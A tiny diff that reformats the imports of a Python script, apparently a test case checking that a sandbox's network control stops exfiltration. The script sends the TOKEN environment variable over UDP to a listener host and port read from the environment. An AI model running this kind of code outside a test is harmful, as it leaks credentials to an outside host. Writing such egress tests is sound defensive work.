@@ -2,6 +2,8 @@
 # stopped by: network
 # proof: arrived
 # source: UDP
-import os, socket
+import os
+import socket
+
 with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
     sender.sendto(os.environ["TOKEN"].encode(), (os.environ["LISTENER"], int(os.environ["UDP_PORT"])))
